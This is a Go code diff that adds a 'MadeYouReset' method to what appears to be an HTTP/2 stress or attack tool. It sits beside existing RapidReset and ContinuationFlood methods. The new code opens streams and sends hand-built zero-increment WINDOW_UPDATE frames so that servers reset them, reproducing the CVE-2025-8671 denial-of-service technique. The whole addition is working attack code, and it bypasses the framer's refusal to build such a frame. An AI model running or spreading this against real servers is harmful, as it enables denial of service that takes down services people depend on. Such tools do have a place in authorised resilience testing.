@@ -217,6 +217,30 @@ func (c *Conn) RapidReset(path string, maxFrames int, d time.Duration) int {
 	return n
 }
 
+// MadeYouReset opens streams (a GET without END_STREAM) and makes the
+// server reset each at once with a WINDOW_UPDATE of increment 0, a stream
+// error (CVE-2025-8671), until maxFrames frames were written, d elapsed
+// or a write fails. It returns the streams opened.
+func (c *Conn) MadeYouReset(path string, maxFrames int, d time.Duration) int {
+	end := time.Now().Add(d)
+	c.conn.SetWriteDeadline(end)
+	defer c.conn.SetWriteDeadline(time.Time{})
+	n := 0
+	for frames := 0; frames+2 <= maxFrames && time.Now().Before(end); frames += 2 {
+		id := c.nextID
+		c.nextID += 2
+		if c.w.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: c.block(path), EndHeaders: true}) != nil {
+			break
+		}
+		n++
+		// The Framer refuses to write a zero increment: the frame by hand.
+		if c.w.WriteRawFrame(http2.FrameWindowUpdate, 0, id, []byte{0, 0, 0, 0}) != nil {
+			break
+		}
+	}
+	return n
+}
+
 // ContinuationFlood opens a stream with HEADERS without END_HEADERS and
 // then writes CONTINUATION frames that never end the block (CVE-2024-27316):
 // each holds a fresh 16 KiB header field when withHeaders, else nothing.
